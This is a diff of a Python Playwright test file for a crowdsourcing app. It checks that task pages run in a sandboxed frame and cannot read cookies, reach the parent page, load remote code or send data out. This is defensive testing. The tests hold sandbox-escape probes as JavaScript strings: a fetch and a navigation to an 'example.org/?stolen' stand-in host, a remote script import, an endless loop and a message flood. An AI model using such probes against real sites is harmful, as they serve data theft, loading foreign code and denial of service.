@@ -225,27 +225,86 @@ HOSTILE = """
 """
 
 
+TRIES = {
+    "cookies": "document.cookie",
+    "parent": "window.parent.document.title",
+    "storage": "window.sessionStorage.length",
+    "network": "fetch('/work/').then((found) => found.text())",
+    "elsewhere": "fetch('https://example.org/?stolen', {mode: 'no-cors'})",
+    "beacon": "violates(() => navigator.sendBeacon('/account/logout/', 'x'))",
+    "socket": "new Promise((yes, no) => { const s = new WebSocket('wss://example.org'); s.onopen = yes; s.onerror = no; })",
+    "picture": "new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = '/static/gtcrowd/mark.svg'; })",
+    "script": "import('https://example.org/x.js')",
+    "out": "void (window.top.location = '/account/logout/')",
+    "window": "(() => { if (!window.open('/work/')) throw 0; })()",
+    "worker": "violates(() => new Worker('data:text/javascript,1'))",
+    "peer": "(() => { new RTCPeerConnection(); })()",
+}
+
+
+VIOLATES = """const violates = (act) => new Promise((yes, no) => {
+    document.addEventListener("securitypolicyviolation", no);
+    act();
+    setTimeout(yes, 1000);
+});"""
+
+
+def tried(inside):
+    """What of all that can be tried came to something."""
+    found = {}
+    for name, code in TRIES.items():
+        attempt = (
+            f"async () => {{ {VIOLATES} try {{ return ['yes', String(await ({code}))] }} catch {{ return null }} }}"
+        )
+        found[name] = inside.evaluate(attempt)
+    return {name: reached for name, reached in found.items() if reached}
+
+
 def test_hostile_template_reaches_nothing(cleos_page, start, texts, monkeypatch):
     monkeypatch.setattr(choice.Choice, "template", lambda _self, _medium: HOSTILE)
     start(texts)
     inside = next(one for one in cleos_page.frames if "/work/frame/" in one.url)
 
-    tries = {
-        "cookies": "document.cookie",
-        "parent": "window.parent.document.title",
-        "storage": "window.sessionStorage.length",
-        "network": "fetch('/work/').then((found) => found.text())",
-        "out": "void (window.top.location = '/account/logout/')",
-    }
-    reached = {}
-    for name, code in tries.items():
-        reached[name] = inside.evaluate(
-            f"async () => {{ try {{ return ['yes', await ({code})] }} catch {{ return null }} }}"
-        )
-
-    assert {name: found for name, found in reached.items() if found} == {}
+    assert tried(inside).keys() <= {"peer"}  # its policy lets in no script that could use one
     assert inside.title() == "Task"
     assert "/work/" in cleos_page.url
+
+
+OWN = """<crowd-form><crowd-classifier categories="['heron', 'ibis']"></crowd-classifier></crowd-form>
+<iframe src="/work/"></iframe><script>%s</script>"""
+
+
+def test_scripts_of_a_page_of_ones_own_reach_nothing_either(cleos_page, start, give):
+    start(give([{"source": "x"}], template=OWN % "document.title = 'inline'"))
+    inside = next(one for one in cleos_page.frames if "/work/frame/" in one.url)
+
+    assert inside.title() == "inline"
+    assert tried(inside) == {}
+    inside.evaluate("() => { location.href = 'https://example.org/?stolen' }")
+    cleos_page.wait_for_timeout(500)
+    assert not any("example.org" in one.url for one in cleos_page.frames)
+    assert "/work/" in cleos_page.url
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "setInterval(() => { for (;;) {} }, 300)",
+        "setInterval(() => { for (let i = 0; i < 9999; i++) parent.postMessage({from: 'gtcrowd', type: 'key', key: '?'}, '*') }, 50)",
+    ],
+    ids=["loops", "floods"],
+)
+def test_a_page_that_will_not_rest_can_be_left(cleos_page, address, give, script):
+    job = give([{"source": "x"}], template=OWN % script)
+    cleos_page.goto(f"{address}/work/{job.pk}/")
+    cleos_page.get_by_role("button", name="Start working").click()
+    cleos_page.wait_for_timeout(1500)
+
+    # By mouse: a key would go to the task, which does not answer.
+    cleos_page.locator('[data-opens="return"]').click(timeout=15_000)
+    cleos_page.locator("#return").get_by_role("button", name="Return").click(timeout=15_000)
+
+    expect(cleos_page.get_by_text("The task is back with the others.")).to_be_visible(timeout=15_000)
 
 
 def test_page_hears_only_its_own_frame(cleos_page, start, texts):
